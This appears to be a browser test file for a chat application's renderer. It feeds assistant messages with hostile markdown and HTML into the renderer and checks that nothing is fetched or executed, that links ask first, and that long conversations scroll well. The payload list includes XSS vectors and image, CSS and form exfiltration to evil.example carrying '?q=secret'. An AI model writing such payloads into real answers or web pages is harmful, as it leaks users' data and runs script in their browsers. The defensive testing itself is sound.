// Text that a model could write, in a real browser under the real policy: nothing is fetched,
// nothing runs. And a conversation too long to be drawn at once.
import { createServer, type Server } from 'node:http'
import { mkdtempSync, rmSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { build } from 'vite'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { serveStatic } from '../../electron/host/serve/static-files'
import type { FakeWorkbench } from '../renderer/fake-workbench'
import { launchBrowser, missing, openPage, root } from './browser'

declare global {
  interface Window { fake: FakeWorkbench }
}

const hostile = [
  '# Heading', '![x](https://evil.example/p.png?q=secret)', '![x][ref]', '[ref]: https://evil.example/p.png?q=secret', '<img src=https://evil.example/p.png onerror=alert(1)>',
  '<style>body{background:url(https://evil.example/p)}</style>', '<iframe src=https://evil.example></iframe>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<svg onload=alert(1)><image href=https://evil.example/p.png /></svg>', '[x](javascript:alert(1))', '[y](https://evil.example/?q=secret "title")',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>', '<form action=https://evil.example><button>go</button></form>',
  '- ![x](//evil.example/p.png)', '| a |\n|---|\n| ![x](https://evil.example/p.png) |', '```html\n<img src=https://evil.example/p.png onerror=alert(1)>\n```',
].join('\n\n')

describe.skipIf(missing !== undefined)('hostile and huge conversations', () => {
  const folder = mkdtempSync(join(tmpdir(), 'moebius-fake-'))
  let browser: Browser
  let server: Server
  let address: string

  beforeAll(async () => {
    await build({ configFile: join(root, 'test/renderer/vite.config.ts'), mode: 'fake', logLevel: 'error', build: { outDir: folder } })
    server = createServer((request, response) => {
      const path = (request.url ?? '/').split('?', 1)[0] ?? '/'
      void serveStatic(folder, path, request, response).then(found => { if (!found) response.writeHead(404).end() })
    }).listen(0, '127.0.0.1')
    await new Promise(resolve => { server.once('listening', resolve) })
    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
    browser = await launchBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    server?.close()
    rmSync(folder, { recursive: true, force: true })
  })

  it('fetches nothing and runs nothing of an answer, and asks before it follows a link', async () => {
    const { page, problems, close } = await openPage(browser, `${address}#/chat/new`)
    let alerts = 0
    page.on('dialog', dialog => { alerts++; void dialog.dismiss() })
    await page.locator('.composer').waitFor()
    await page.evaluate(content => {
      const chat = window.fake.conversations.get('c1')!
      window.fake.conversations.set('c1', { ...chat, messages: chat.messages.map(message => message.role === 'assistant' ? { ...message, content } : message) })
    }, hostile)
    await page.evaluate(() => { location.hash = '#/chat/c1' })
    await page.locator('.answer-text h1').first().waitFor()
    await page.waitForTimeout(800)
    expect(await page.locator('.answer-text :is(img, svg image, iframe, style, script, form, meta, a)').count()).toBe(0)
    const pages = page.context().pages().length
    await page.locator('.inert-link', { hasText: 'y' }).first().click()
    await page.getByRole('dialog', { name: 'Open this link?' }).getByText('Site: evil.example').waitFor()
    await page.keyboard.press('Escape')
    await page.locator('.inert-image').first().click()
    await page.keyboard.press('Escape')
    expect(page.context().pages().length).toBe(pages)
    expect(alerts).toBe(0)
    expect(problems).toEqual([])
    await close()
  })

  it('draws only what is seen of 2,000 messages, opens at the end and jumps back to it', async () => {
    const { page, problems, close } = await openPage(browser, `${address}#/chat/new`)
    await page.locator('.composer').waitFor()
    await page.evaluate(() => {
      const chat = window.fake.conversations.get('c1')!
      const [first] = chat.messages
      const text = 'One day, Ella went to the river with her friend Ben. '.repeat(12)
      const messages = Array.from({ length: 2000 }, (_, i) => ({
        ...first!, id: `n${i}`, parentId: i === 0 ? undefined : `n${i - 1}`, role: i % 2 ? 'assistant' as const : 'user' as const, content: `Message ${i}: ${text}`, createdAt: i,
      }))
      window.fake.conversations.set('c1', { ...chat, messages, activeLeafId: 'n1999' })
      location.hash = '#/chat/c1'
    })
    await page.getByText('Message 1999: One day').waitFor()
    await expect.poll(() => page.locator('.scroller').evaluate(element => element.scrollHeight - element.scrollTop - element.clientHeight)).toBeLessThan(5)
    expect(await page.locator('.row').count()).toBeLessThan(40)

    const frames = await page.evaluate(async () => {
      const scroller = document.querySelector('.scroller')!
      const times: number[] = []
      let last = performance.now()
      for (let i = 0; i < 60; i++) {
        scroller.scrollTop -= 400
        await new Promise(requestAnimationFrame)
        times.push(performance.now() - last)
        last = performance.now()
      }
      return times.sort((a, b) => a - b)
    })
    expect(frames[Math.floor(frames.length / 2)]).toBeLessThan(60)
    await page.getByRole('button', { name: 'Jump to the latest' }).click()
    await page.getByText('Message 1999: One day').waitFor()
    expect(problems).toEqual([])
    await close()
  })

  it('keeps the end in view while an answer grows, unless the reader scrolled away', async () => {
    const { page, problems, close } = await openPage(browser, `${address}#/chat/new`, { viewport: { width: 1040, height: 440 } })
    await page.getByRole('button', { name: 'Tell me a short story.' }).click()
    const distance = (): Promise<number> => page.locator('.scroller').evaluate(element => element.scrollHeight - element.scrollTop - element.clientHeight)
    await expect.poll(() => page.locator('.scroller').evaluate(element => element.scrollHeight > element.clientHeight + 180), { timeout: 25_000 }).toBe(true)
    expect(await distance()).toBeLessThan(40)
    await page.locator('.scroller').evaluate(element => { element.scrollTop = 0 })
    await page.waitForTimeout(600)
    expect(await page.locator('.scroller').evaluate(element => element.scrollTop)).toBeLessThan(10)
    await page.getByRole('button', { name: 'Jump to the latest' }).waitFor()
    await close()
    expect(problems).toEqual([])
  })
})
